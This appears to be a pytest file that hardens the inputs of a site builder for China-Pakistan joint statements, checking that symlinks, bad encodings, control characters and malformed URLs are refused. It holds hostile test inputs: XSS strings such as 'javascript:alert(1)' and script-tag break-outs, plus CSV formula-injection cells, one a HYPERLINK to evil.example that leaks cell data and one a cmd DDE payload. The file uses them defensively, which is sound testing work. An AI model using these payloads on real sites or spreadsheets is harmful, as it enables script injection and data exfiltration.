"""Issue 20, the inputs: one reader for every file in source/, one validator for every string that reaches output,
deploy settings checked at start and escaped anyway, provenance URLs kept as recorded, formulas kept out of the CSV.

Each test reproduces a defect the hostile review found; the whole-build fuzz (test_fuzz_build.py) covers the same
inputs with mutations drawn at random.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
import types
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

import build_scripts.__main__ as cli
import build_scripts.build as pipeline
from build_scripts.errors import SourceErrors
from build_scripts.read.manifest import read_manifest
from build_scripts.read.source import read_inputs
from build_scripts.read.topics import read_topics
from build_scripts.render import cite

from .conftest import ROOT, tmp_paths
from .test_escaping import injected

GOOD = ROOT / "source"
SOURCES = ("manifest.toml", "topics.toml", "aliases.toml", "published.urls")


def source_copy(tmp_path: Path) -> Path:
    source = tmp_path / "source"
    shutil.copytree(GOOD, source)
    return source


def run_cli(*argv: str, timeout: int = 60) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "build_scripts", *argv], cwd=ROOT, capture_output=True, text=True,
                          timeout=timeout)


def check(source: Path, capsys, monkeypatch) -> tuple[int, list[str]]:
    """`check --source source` in this process, from source's parent: (exit status, lines on stderr)."""
    monkeypatch.chdir(source.parent)
    status = cli.main(["check", "-q", "--source", source.name])
    return status, capsys.readouterr().err.splitlines()


# --- 1. One reader for every file in source/ ---------------------------------------------------------------------

@pytest.mark.parametrize("name", ["aliases.toml", "published.urls"])
def test_a_fifo_among_the_newer_inputs_does_not_hang_check(tmp_path, name):
    source = source_copy(tmp_path)
    (source / name).unlink()
    os.mkfifo(source / name)
    result = run_cli("check", "--source", str(source))
    assert result.returncode == 1
    assert f"{name}:1:1: a FIFO: expected a regular text file" in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.slow
def test_explain_does_not_hang_on_a_fifo_manifest_nor_quote_a_symlinked_one(tmp_path):
    folder = tmp_path / "copy"
    folder.mkdir()
    shutil.copy(sorted(GOOD.glob("*.txt"))[0], folder / "x.txt")
    os.mkfifo(folder / "manifest.toml")
    result = run_cli("explain", str(folder / "x.txt"), timeout=30)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "manifest.toml:1:1: a FIFO: expected a regular text file" in result.stderr
    (folder / "manifest.toml").unlink()
    secret = tmp_path / "elsewhere.toml"
    secret.write_text("private diary line = [\n", encoding="utf-8")
    (folder / "manifest.toml").symlink_to(secret)
    result = run_cli("explain", str(folder / "x.txt"), timeout=30)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "manifest.toml:1:1: a symbolic link to" in result.stderr and "diary" not in result.stderr


@pytest.mark.parametrize("name", SOURCES)
def test_a_symlink_out_of_the_source_folder_is_refused_for_every_input(tmp_path, capsys, monkeypatch, name):
    secret = tmp_path / "elsewhere"
    secret.write_text("private diary line = [\n", encoding="utf-8")
    source = source_copy(tmp_path)
    (source / name).unlink()
    (source / name).symlink_to(secret)
    status, err = check(source, capsys, monkeypatch)
    assert status == 1
    assert f"source/{name}:1:1: a symbolic link to {str(secret)!r}, outside the source folder" in err[0]
    assert not any("diary" in line for line in err)


@pytest.mark.parametrize("name", SOURCES)
@pytest.mark.parametrize("codec, named", [("gb18030", "GB18030"), ("utf-16", "UTF-16"), ("utf-16-le", "UTF-16"),
                                          ("utf-16-be", "UTF-16")])
def test_a_source_file_in_another_encoding_is_named_at_its_position(tmp_path, capsys, monkeypatch, name, codec, named):
    source = source_copy(tmp_path)
    text = (source / name).read_text(encoding="utf-8")
    if name == "published.urls":  # a Chinese comment: else GB18030 writes the same bytes as UTF-8
        text = "# 已发表的网址\n" + text
    (source / name).write_bytes(text.encode(codec))
    status, err = check(source, capsys, monkeypatch)
    assert status == 1
    [line] = [x for x in err if name in x]
    assert re.fullmatch(rf"source/{re.escape(name)}:\d+:\d+: not UTF-8: .*{named}.*expected UTF-8.*", line), line


ODD = ["\u2028", "\u2029", "\x85", "\x0c", "\x0b", "\x1c", "\x1d", "\x1e"]  # str.splitlines ends a line at each


def test_published_urls_lines_are_counted_as_an_editor_counts_them(tmp_path, capsys, monkeypatch):
    source = source_copy(tmp_path)
    ends = ["\n", "\r\n", "\r"]
    text = "".join(f"# a comment holding {ch!r} here:{ch}still the comment{ends[i % 3]}" for i, ch in enumerate(ODD))
    (source / "published.urls").write_text(text + "zh-Hans/compare/not-a-pair/\n", encoding="utf-8", newline="")
    status, err = check(source, capsys, monkeypatch)
    assert status == 1
    assert err[0].startswith(f"source/published.urls:{len(ODD) + 1}:1: 'zh-Hans/compare/not-a-pair/': ")


def test_aliases_lines_are_counted_as_an_editor_counts_them(tmp_path, capsys, monkeypatch):
    source = source_copy(tmp_path)
    comments = "".join(f"# holding {ch!r}:{ch}still the comment\r\n" for ch in ("\u2028", "\u2029", "\x85"))
    (source / "aliases.toml").write_text(comments + 'groups = [\n  ["南盟", "南亚区域合作联盟"],\n  ["坏 词", "x"],\n]\n',
                                         encoding="utf-8", newline="")
    status, err = check(source, capsys, monkeypatch)
    assert status == 1
    assert err[0].startswith("source/aliases.toml:6:4: term '坏 词': expected Han characters")


def test_a_character_toml_forbids_in_a_comment_is_named_where_an_editor_shows_it(tmp_path, capsys, monkeypatch):
    source = source_copy(tmp_path)
    (source / "aliases.toml").write_text('# one\u2028two\n# three\x1bfour\ngroups = [["南盟", "南亚区域合作联盟"]]\n',
                                         encoding="utf-8")
    status, err = check(source, capsys, monkeypatch)
    assert status == 1
    assert err[0].startswith("source/aliases.toml:2:8: ") and "U+001B (ESCAPE)" in err[0]


def test_every_file_read_in_the_source_folder_goes_through_the_one_reader(tmp_path):
    """An audit hook sees every open(): each one of a file in source/ must come from files.read_source_text."""
    from build_scripts.read import files

    source = source_copy(tmp_path)
    opened: list[tuple[str, bool]] = []
    AUDIT["source"], AUDIT["seen"], AUDIT["reader"] = source.resolve(), opened, files.read_source_text.__code__
    if not AUDIT["installed"]:
        sys.addaudithook(_audit)
        AUDIT["installed"] = True
    try:
        cli.check(tmp_paths(tmp_path, source))
    finally:
        AUDIT["source"] = None
    names = {name for name, _ in opened}
    assert {"manifest.toml", "topics.toml", "aliases.toml", "published.urls"} <= names
    assert any(name.endswith(".txt") for name in names)
    assert [name for name, through_reader in opened if not through_reader] == []


AUDIT: dict = {"installed": False, "source": None, "seen": None, "reader": None}


def _audit(event: str, args: tuple) -> None:
    if event != "open" or AUDIT["source"] is None or not isinstance(args[0], str | bytes | os.PathLike):
        return
    path = Path(os.fsdecode(args[0]))
    if path.parent.resolve() != AUDIT["source"]:
        return
    frame: types.FrameType | None = sys._getframe(1)
    through = False
    while frame is not None and not through:
        through, frame = frame.f_code is AUDIT["reader"], frame.f_back
    AUDIT["seen"].append((path.name, through))


# --- 2. One validator for every string that reaches output -------------------------------------------------------

UNFIT = [("\x1b", "U+001B (ESCAPE)"), ("\ufffe", "U+FFFE (a noncharacter)"), ("\uffff", "U+FFFF (a noncharacter)"),
         ("\x00", "U+0000 (NULL)"), ("\x07", "U+0007 (ALERT)"), ("\x7f", "U+007F (DELETE)"),
         ("\ufdd0", "U+FDD0 (a noncharacter)"), ("\U0001fffe", "U+1FFFE (a noncharacter)"),
         ("\x9b", "U+009B (CONTROL SEQUENCE INTRODUCER)"), ("\u202e", "U+202E (RIGHT-TO-LEFT OVERRIDE)")]
TITLE = "中华人民共和国和巴基斯坦伊斯兰共和国关于深化{}合作的联合声明"


def raw_statement(title: str = "", place: str = "", clause: str = "") -> str:
    return (f"{TITLE.format(title)}（2031年1月1日，北{place}京）\u3000\u3000一、双方同意加强{clause}合作。"
            f"\u3000\u3000二、双方重申友谊。\n")


@pytest.mark.parametrize("field", ["title", "place", "clause"])
@pytest.mark.parametrize("ch, named", UNFIT)
def test_a_character_output_cannot_carry_in_raw_text_is_refused_at_its_position(tmp_path, field, ch, named):
    source = source_copy(tmp_path)
    text = raw_statement(**{field: ch})
    (source / "zz.txt").write_text(text, encoding="utf-8")
    with pytest.raises(SourceErrors) as e:
        read_inputs(source, ROOT / "mkdocs.yml")
    [error] = [str(x) for x in e.value.errors]
    assert error.startswith(f"zz.txt:1:{text.index(ch) + 1}: ") and named in error, error


def test_a_title_holding_escape_gives_a_source_error_not_the_feed_writers_value_error(tmp_path):
    source = source_copy(tmp_path)
    (source / "zz.txt").write_text(raw_statement(title="\x1b[31m"), encoding="utf-8")
    with pytest.raises(SourceErrors) as e:
        pipeline.build(tmp_paths(tmp_path, source), quiet=True, offline_zip=False)
    assert "U+001B (ESCAPE)" in str(e.value)


def manifest_with(tmp_path: Path, entry: str, corpus: str = "") -> Path:
    path = tmp_path / "manifest.toml"
    path.write_text(f'[corpus]\nparties = ["甲", "乙"]\ndocument_type = "联合声明"\n{corpus}\n[[statement]]\n'
                    f'file = "x.txt"\nline = 1\n{entry}\n', encoding="utf-8")
    return path


ESCAPED = [("\\u001b", "U+001B (ESCAPE)"), ("\\ufffe", "U+FFFE (a noncharacter)"), ("\\uffff", "U+FFFF (a noncharacter)"),
           ("\\ufdd0", "U+FDD0 (a noncharacter)"), ("\\U0010ffff", "U+10FFFF (a noncharacter)"),
           ("\\u0085", "U+0085 (NEXT LINE)"), ("\\u2066", "U+2066 (LEFT-TO-RIGHT ISOLATE)")]


@pytest.mark.parametrize("key", ["place", "title", "visiting", "receiving", "headline", "publisher"])
@pytest.mark.parametrize("escaped, named", ESCAPED)
def test_a_manifest_text_holding_a_character_output_cannot_carry_is_refused(tmp_path, key, escaped, named):
    errors = read_manifest(manifest_with(tmp_path, f'{key} = "北京{escaped}"')).errors
    [error] = [str(e) for e in errors]
    assert error.startswith(f"manifest.toml:8:1: {key} ") and named in error, error


@pytest.mark.parametrize("escaped, named", ESCAPED)
def test_the_corpus_names_refuse_them_too(tmp_path, escaped, named):
    from build_scripts.errors import SourceError

    with pytest.raises(SourceError) as e:
        read_manifest(manifest_with(tmp_path, "", corpus=f'name = "中巴{escaped}联合声明"'))
    assert str(e.value).startswith("manifest.toml:4:1: name ") and named in str(e.value)


@pytest.mark.parametrize("escaped, named", [*ESCAPED, ("\\u200b", "U+200B (ZERO WIDTH SPACE)")])
def test_a_topic_name_or_term_holding_one_is_refused(tmp_path, escaped, named):
    path = tmp_path / "topics.toml"
    path.write_text(f'[[topic]]\nslug = "a"\nname = "克什米尔{escaped}"\nterms = ["甲"]\n'
                    "[linking]\ntopic_threshold = 0.05\nwording_threshold = 0.25\nsalience = 0.25\n"
                    "max_per_statement = 3\ncompare_overlap = 12\nmax_links = 8\n", encoding="utf-8")
    [error] = [str(e) for e in read_topics(path).errors]
    assert error.startswith("topics.toml:3:1: name ") and named in error, error


def test_an_alias_holding_one_is_refused_naming_it(tmp_path, capsys, monkeypatch):
    source = source_copy(tmp_path)
    (source / "aliases.toml").write_text('groups = [\n  ["南盟", "南亚区域合作\\u001b联盟"],\n]\n', encoding="utf-8")
    status, err = check(source, capsys, monkeypatch)
    assert status == 1 and err[0].startswith("source/aliases.toml:2:10: ") and "U+001B (ESCAPE)" in err[0]


def test_a_published_url_holding_one_is_refused_naming_it(tmp_path, capsys, monkeypatch):
    source = source_copy(tmp_path)
    with (source / "published.urls").open("a", encoding="utf-8") as f:
        f.write("zh-Hans/compare/2015-04-20-c1\x1b--2020-03-17-p1/\n")
    lines = (source / "published.urls").read_text(encoding="utf-8").count("\n")
    status, err = check(source, capsys, monkeypatch)
    assert status == 1 and err[0].startswith(f"source/published.urls:{lines}:30: ") and "U+001B (ESCAPE)" in err[0]


# --- 3. Deploy settings ------------------------------------------------------------------------------------------

BAD_URLS = ['https://x.example/"><script>alert(1)</script>', "javascript:alert(1)", "JavaScript:alert(1)//",
            "data:text/html,<script>alert(1)</script>", "https://x.example/a b", "https://x.example/<b>",
            "https://x.example/\x1b[31m", "https://x.example/\u202e", "ftp://x.example/", "x.example/repo", "https:///path",
            "https://x.example/'onmouseover='alert(1)", "https://x.example/`", "https://x.example/a\\b", "//x.example/"]
GOOD_URLS = ["https://example.github.io/repo", "https://example.github.io/repo/", "http://127.0.0.1:8000/",
             "https://example.org/cpec/", "https://github.com/example/cn-pk_statements"]


@pytest.mark.parametrize("var", ["SITE_URL", "REPO_URL"])
@pytest.mark.parametrize("value", BAD_URLS)
def test_a_deploy_setting_that_is_not_an_http_url_stops_the_build_at_start(tmp_path, capsys, monkeypatch, var, value):
    monkeypatch.setenv(var, value)
    monkeypatch.chdir(tmp_path)
    site = tmp_path / "site"
    assert cli.main(["build", "-q", "--source", str(GOOD), "--site-dir", str(site)]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"error: {var}={value!r}: ") and "expected an http(s) address" in err
    assert not site.exists()


@pytest.mark.parametrize("value", GOOD_URLS)
def test_an_http_address_is_a_deploy_setting(monkeypatch, value):
    from build_scripts import settings

    monkeypatch.setenv("SITE_URL", value)
    monkeypatch.setenv("REPO_URL", value)
    resolved = settings.resolve(settings.Paths.at(ROOT))
    assert resolved.site_url == value.rstrip("/") + "/" and resolved.repo_url == value.rstrip("/")


@pytest.mark.parametrize("value", ["abc", "-5", "1e9", "99999999999", " 1"])
def test_a_source_date_epoch_that_is_not_a_timestamp_is_an_error_not_a_traceback(tmp_path, value):
    env = {**os.environ, "SOURCE_DATE_EPOCH": value}
    result = subprocess.run([sys.executable, "-m", "build_scripts", "check", "-q"], cwd=ROOT, capture_output=True,
                            text=True, timeout=60, env=env)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.startswith(f"error: SOURCE_DATE_EPOCH={value!r}: expected")


@pytest.mark.slow  # seconds on its own: the inner loop (make test-fast) leaves it to make test
def test_deploy_settings_are_escaped_in_every_context_even_unchecked(tmp_path, monkeypatch):
    """With the check switched off, a break-out in SITE_URL or REPO_URL still adds no markup anywhere."""
    from build_scripts import settings

    monkeypatch.setattr(settings, "url_problem", lambda value: None)
    monkeypatch.setenv("SITE_URL", "https://x.example/\"'><zz-hostile zz-attr=1>&amp;</script>")
    monkeypatch.setenv("REPO_URL", "https://x.example/r\"'><zz-hostile zz-attr=2>")
    paths = tmp_paths(tmp_path)
    pipeline.build(paths, quiet=True, offline_zip=False)
    files = {p.relative_to(paths.site).as_posix(): p.read_bytes() for p in paths.site.rglob("*") if p.is_file()}
    checked = [n for n in files if not n.startswith("data/") and "/cite/" not in n]  # data: the text as data
    assert {n: found for n in checked if (found := injected(n, files[n]))} == {}
    for name in ("sitemap.xml", "zh-Hans/feed.xml"):
        ET.fromstring(files[name])  # well-formed
    home = files["zh-Hans/index.html"].decode("utf-8")
    assert "https://x.example/%22%27%3E%3Czz-hostile%20zz-attr=1%3E" in home  # percent-encoded, as a URL escapes


# --- 4. Provenance -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("escaped, named", [("\\u202e", "U+202E (RIGHT-TO-LEFT OVERRIDE)"), ("\\u0000", "U+0000 (NULL)"),
                                            ("\\u0007", "U+0007 (ALERT)"), ("\\u007f", "U+007F (DELETE)"),
                                            ("\\u200b", "U+200B (ZERO WIDTH SPACE)"), ("\\u001b", "U+001B (ESCAPE)"),
                                            ("\\ufffe", "U+FFFE (a noncharacter)")])
def test_a_source_url_holding_a_control_or_format_character_is_refused(tmp_path, escaped, named):
    errors = read_manifest(manifest_with(tmp_path, f'source_urls = ["https://www.fmprc.gov.cn/{escaped}gpj.exe"]')).errors
    [error] = [str(e) for e in errors]
    assert error.startswith("manifest.toml:8:1: source_urls ") and named in error, error


CHICAGO_ITEM = {"id": "x", "type": "document", "title": "中华人民共和国和巴基斯坦伊斯兰共和国联合声明",
                "author": [{"literal": "中华人民共和国"}], "issued": {"date-parts": [[2015, 4, 20]]},
                "event-place": "伊斯兰堡", "container-title": "中巴联合声明", "language": "zh-CN",
                "original-publisher": "外交部"}


@pytest.mark.parametrize("url", ["https://www.fmprc.gov.cn/web/zyxw/t1256274.shtml", "http://www.gov.cn/xinwen/x.htm",
                                 "https://例子.中国/路径"])
@pytest.mark.parametrize("base", ["", "https://example.org/cpec/"])
def test_a_citation_gives_a_recorded_url_as_written(url, base):
    for key in cite.STYLES:
        text = cite.render({**CHICAGO_ITEM, "archive_location": url, "URL": f"{base}zh-Hans/statements/x/" if base else ""},
                           key)
        assert "Https" not in text and "Http:" not in text, text
        assert url in text or key != "chicago"  # GB/T 7714 gives the page's own address only


def test_every_clause_citation_gives_the_recorded_url_as_written():
    """The recorded source's address reaches the record (the CSL note, RIS N1, BibTeX note, DC.source) as written;
    the rendered citations give the page's own address, as written too."""
    from build_scripts.read.provenance import Provenance, source_line

    statements = read_inputs(GOOD, ROOT / "mkdocs.yml").statements
    url = "https://www.fmprc.gov.cn/web/zyxw/t1256274.shtml"
    prov = Provenance((url,), "外交部", None, "manifest", "manifest", "official")
    note = "来源：" + "".join(text for text, _ in source_line(prov, lambda text: text))
    citation = cite.statement_citation(statements[0], "zh-Hans", prov, ("中华人民共和国", "巴基斯坦伊斯兰共和国"),
                                       "中巴联合声明", "https://example.org/cpec/", "description", note=note)
    assert citation.item["note"] == f"来源：外交部（官方网页）；发布日期未能确定；{url}"
    assert f"N1  - {citation.item['note']}" in cite.ris(citation.item)
    assert url.replace("_", "\\_") in cite.bibtex(citation.item) and f'<meta name="DC.source" content="{url}">' in citation.head
    for anchor, texts in citation.clauses.items():
        page = f"https://example.org/cpec/zh-Hans/statements/{statements[0].slug}/#{anchor}"
        assert all(page in text and "Https" not in text for text in texts.values())


def test_the_first_letter_of_a_sentence_is_still_capitalised():
    """The URL is protected, not the style's prose: an archive location that is prose is capitalised as before."""
    text = cite.render({**CHICAGO_ITEM, "archive_location": "box 3, folder 2"}, "chicago")
    assert "Box 3, folder 2" in text


# --- 5. CSV injection --------------------------------------------------------------------------------------------

def record(text: str, publisher: str = "外交部", urls: tuple[str, ...] = ()) -> dict:
    return {"statement": "2015-04-20", "anchor": "c1", "label": {"zh-Hans": "第一条", "zh-Hant": "第一條"},
            "text": {"zh-Hans": text, "zh-Hant": text}, "url": {"zh-Hans": "u1", "zh-Hant": "u2"}, "see_also": [],
            "source": {"source_urls": list(urls), "publisher": publisher, "posted": None, "kind": None},
            "source_script": "zh-Hans"}


@pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3",
                                  "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_csv_cell_a_spreadsheet_would_run_is_neutralised(cell):
    from build_scripts.render.downloads import clauses_csv

    data = clauses_csv([record(cell, publisher=cell)], ["zh-Hans", "zh-Hant"]).decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(data)))
    assert row["text_zh-Hans"] == row["text_zh-Hant"] == row["publisher"] == "'" + cell
    quoted = '"' + ("'" + cell).replace('"', '""') + '"'
    assert data.count(quoted) == 3


@pytest.mark.parametrize("cell", ["一、双方同意加强合作。", "a,b", 'say "x"', "line\nbreak", "", " =1", "\uff0d1", "\uff1d1", "1-2",
                                  "https://www.fmprc.gov.cn/x?a=1&b=2"])
def test_every_other_csv_cell_is_written_as_before(cell):
    from build_scripts.render.downloads import clauses_csv

    langs = ["zh-Hans", "zh-Hant"]
    out = io.StringIO()
    fields = ["statement", "anchor", *(f"{k}_{lang}" for k in ("label", "text", "url") for lang in langs), "see_also",
              "source_urls", "publisher", "posted", "source_kind", "source_script"]
    writer = csv.DictWriter(out, fieldnames=fields, lineterminator="\n")
    writer.writeheader()
    writer.writerow({"statement": "2015-04-20", "anchor": "c1", "label_zh-Hans": "第一条", "label_zh-Hant": "第一條",
                     "text_zh-Hans": cell, "text_zh-Hant": cell, "url_zh-Hans": "u1", "url_zh-Hant": "u2", "see_also": "",
                     "source_urls": "", "publisher": cell, "posted": "", "source_kind": "", "source_script": "zh-Hans"})
    assert clauses_csv([record(cell, publisher=cell)], langs) == ("\ufeff" + out.getvalue()).encode("utf-8")


@pytest.mark.parametrize("lang", ["zh-Hans", "zh-Hant"])
def test_the_data_page_documents_the_csv_rule(built, lang):
    page = (built / lang / "data" / "index.html").read_text(encoding="utf-8")
    assert "CSV" in page and "<code>=</code>、<code>+</code>、<code>-</code>、<code>@</code>" in page
    assert "<code>'</code>" in page or "<code>&#39;</code>" in page


@pytest.mark.parametrize("ends", ["\n", "\r\n", "\r"])
def test_a_string_left_open_in_toml_is_named_as_such_and_a_cr_line_end_only_where_there_is_one(tmp_path, capsys,
                                                                                                monkeypatch, ends):
    """An unterminated string (place = "北京 with no closing quote) is what tomllib calls an illegal '\\n': the error
    says the string is left open, in a file of any line ends, and blames a line that ends in CR alone only in a file
    whose lines do (there tomllib stops at the first CR, which it never reads as a line end)."""
    source = source_copy(tmp_path)
    text = (source / "manifest.toml").read_text(encoding="utf-8")
    assert '\nplace = "北京"\n' in text
    text = text.replace('\nplace = "北京"\n', '\nplace = "北京\n', 1)
    (source / "manifest.toml").write_text(text.replace("\n", ends), encoding="utf-8", newline="")
    status, err = check(source, capsys, monkeypatch)
    assert status == 1
    if ends == "\r":
        assert "CR alone" in err[0] and "left open" not in err[0], err[0]
    else:
        line = text.split("\n").index('place = "北京') + 1
        assert err[0].startswith(f"source/manifest.toml:{line}:12: ") and "left open" in err[0], err[0]
        assert "CR" not in err[0], err[0]
